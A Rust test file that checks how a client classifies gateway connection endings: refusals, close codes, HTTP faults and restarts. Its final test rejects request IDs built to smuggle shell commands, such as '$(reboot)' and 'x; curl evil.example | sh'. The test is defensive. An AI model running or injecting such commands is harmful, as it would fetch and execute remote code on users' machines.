//! Every end that was provoked on real gateways, and every code they have: what follows.

use std::fmt::Write as _;

use super::super::*;

const ESTABLISHED: Scene =
    Scene { established: true, dialect: Dialect::Auto, names_capabilities: true, shutdown: None, mute: 0 };

fn at_first(scene: Scene) -> Scene {
    Scene { established: false, ..scene }
}

fn refused(refusal: &str) -> End {
    End::Refused(serde_json::from_str(refusal).unwrap())
}

fn closed(code: u16, reason: &str) -> End {
    End::Closed { code: Some(code), reason: reason.to_owned() }
}

fn told(ending: &Ending) -> String {
    format!("{ending:?}")
}

/// The rows of what a gateway says first: `ClawdBot` in words, `OpenClaw` by code.
#[test]
fn refusals_of_connect() {
    let clawd_bot = [
        "invalid handshake: first request must be connect",
        "invalid connect params: at /client/id: must be equal to constant",
        "protocol mismatch",
        "invalid role",
        "unauthorized: gateway token mismatch (provide gateway auth token)",
        "unauthorized: gateway token missing (provide gateway auth token)",
        "unauthorized: gateway password mismatch (enter the password)",
        "unauthorized: gateway password missing (enter the password)",
        "device identity required",
        "pairing required",
        "device identity mismatch",
        "device signature invalid",
        "device signature expired",
        "device nonce mismatch",
        "device nonce required",
        "control ui requires HTTPS or localhost (secure context)",
        "something nobody has seen",
    ];
    let mut table = String::new();
    for message in clawd_bot {
        let refusal = format!(
            r#"{{"code":"INVALID_REQUEST","message":{message:?},"details":{{"requestId":"r-1","expectedProtocol":3}}}}"#
        );
        let scene = Scene { names_capabilities: false, ..at_first(ESTABLISHED) };
        writeln!(table, "{message}\n    {}", told(&judge(&refused(&refusal), scene))).unwrap();
    }
    insta::assert_snapshot!("refusals_in_words", table);

    let mut table = String::new();
    for code in CODES.into_iter().chain(["SOMETHING_NEW"]) {
        let refusal = format!(
            r#"{{"code":"INVALID_REQUEST","message":"m","details":{{"code":"{code}","requestId":"r-1","reason":"not-paired","expectedProtocol":4}}}}"#
        );
        writeln!(table, "{code}\n    {}", told(&judge(&refused(&refusal), at_first(ESTABLISHED)))).unwrap();
    }
    insta::assert_snapshot!("refusals_by_code", table);
}

/// Codes decide, not words: a message that says something else changes nothing.
#[test]
fn where_there_is_a_code_the_words_are_not_read() {
    for code in CODES.into_iter().chain(["SOMETHING_NEW"]) {
        let ending = |message: &str| {
            let refusal = format!(r#"{{"message":"{message}","details":{{"code":"{code}"}}}}"#);
            judge(&refused(&refusal), at_first(ESTABLISHED))
        };
        if code != "SOMETHING_NEW" {
            assert_eq!(ending("unauthorized: gateway token missing"), ending("pairing required"), "{code}");
        }
    }
}

#[test]
fn closes_at_first_and_when_established() {
    let rows: &[(u16, &str)] = &[
        (1000, ""),
        (1001, ""),
        (1002, "protocol mismatch"),
        (1002, ""),
        (1003, ""),
        (1005, ""),
        (1006, ""),
        (1007, ""),
        (1008, "invalid request frame"),
        (1008, "invalid-handshake"),
        (1008, "unauthorized: gateway token mismatch (provide gateway auth token)"),
        (1008, "pairing required"),
        (1008, "slow consumer"),
        (1008, "repeated unauthorized calls"),
        (1008, "too many pending handshake frames"),
        (1008, "\u{202e}strange\nwords\u{7}"),
        (1008, ""),
        (1009, ""),
        (1011, ""),
        (1012, "service restart"),
        (1013, "gateway starting"),
        (4000, "tick timeout"),
        (4001, "device removed"),
        (4001, "gateway auth changed"),
        (4001, "client invalidated: x"),
        (4008, "x"),
        (4999, ""),
        (3000, ""),
        (0, ""),
    ];
    let mut table = String::new();
    for (code, reason) in rows {
        let end = closed(*code, reason);
        let (first, later) = (judge(&end, at_first(ESTABLISHED)), judge(&end, ESTABLISHED));
        writeln!(table, "{code} {reason:?}\n    {}", told(&first)).unwrap();
        if later != first {
            writeln!(table, "    then {}", told(&later)).unwrap();
        }
    }
    let gone = End::Closed { code: None, reason: String::new() };
    writeln!(
        table,
        "gone\n    {}\n    then {}",
        told(&judge(&gone, at_first(ESTABLISHED))),
        told(&judge(&gone, ESTABLISHED))
    )
    .unwrap();
    insta::assert_snapshot!(table);
}

#[test]
fn no_socket_at_all() {
    let http = |status, seconds: Option<u64>| {
        End::NotDialled(DialFault::Http { status, retry_after: seconds.map(Duration::from_secs) })
    };
    let mut table = String::new();
    for end in [
        End::NotDialled(DialFault::Unreachable("connection refused".to_owned())),
        End::NotDialled(DialFault::Unresolved { host: "desk".to_owned(), what: "no such host".to_owned() }),
        http(200, None),
        http(301, None),
        http(302, Some(1)),
        http(401, None),
        http(403, None),
        http(404, None),
        http(426, None),
        http(429, None),
        http(429, Some(7)),
        http(502, None),
        http(503, Some(3)),
        http(504, None),
        http(500, None),
        End::NotDialled(DialFault::NoSubprotocol),
        End::NotDialled(DialFault::NoWebSocket("bad handshake".to_owned())),
        End::NotDialled(DialFault::Address(crate::address::AddressFault::Scheme)),
        End::NotDialled(DialFault::Tls(crate::tls::TlsFault::WrongName)),
        End::Senseless("a challenge without a nonce".to_owned()),
        End::Broken("a frame with reserved bits".to_owned()),
        End::Garbage,
        End::Stalled,
    ] {
        let classic = Scene { dialect: Dialect::Classic, ..at_first(ESTABLISHED) };
        let (ending, in_classic) = (judge(&end, at_first(ESTABLISHED)), judge(&end, classic));
        writeln!(table, "{end:?}\n    {}", told(&ending)).unwrap();
        if in_classic != ending {
            writeln!(table, "    classic {}", told(&in_classic)).unwrap();
        }
    }
    insta::assert_snapshot!(table);
}

#[test]
fn an_announced_restart_is_one_whatever_the_socket_says_then() {
    let back_in = Some(Duration::from_millis(1500));
    let scene = Scene { shutdown: Some(Shutdown { back_in }), ..ESTABLISHED };
    for end in [closed(1012, ""), closed(1006, ""), closed(1000, ""), End::Closed { code: None, reason: String::new() }]
    {
        assert_eq!(judge(&end, scene), Ending::Restart { back_in });
    }
    // But a token that was changed is one.
    assert!(matches!(judge(&closed(4001, ""), scene), Ending::Credential { fault: TokenFault::Changed, .. }));
}

#[test]
fn a_gateway_that_starts_says_when_to_come_again() {
    let starting = refused(
        r#"{"code":"UNAVAILABLE","message":"gateway starting","retryAfterMs":500,"details":{"reason":"startup-sidecars"}}"#,
    );
    let after = Some(Duration::from_millis(500));
    assert_eq!(judge(&starting, at_first(ESTABLISHED)), Ending::Retry { cause: Retryable::Starting, after });
}

#[test]
fn an_id_that_a_shell_could_take_for_more_is_not_repeated() {
    assert_eq!(RequestId::new("168888b8-4675-40f0-9352-8fab2b387bca").unwrap().as_str().len(), 36);
    for said in
        ["", "a b", "$(reboot)", "a;b", "`a`", "a\n", "-rf", "--help", "é", "a'b", "a\"", "a|b", &"a".repeat(65)]
    {
        assert_eq!(RequestId::new(said), None, "{said}");
    }
    let refusal = r#"{"details":{"code":"PAIRING_REQUIRED","requestId":"x; curl evil.example | sh"}}"#;
    assert!(matches!(judge(&refused(refusal), at_first(ESTABLISHED)), Ending::Pairing { request: None, .. }));
}
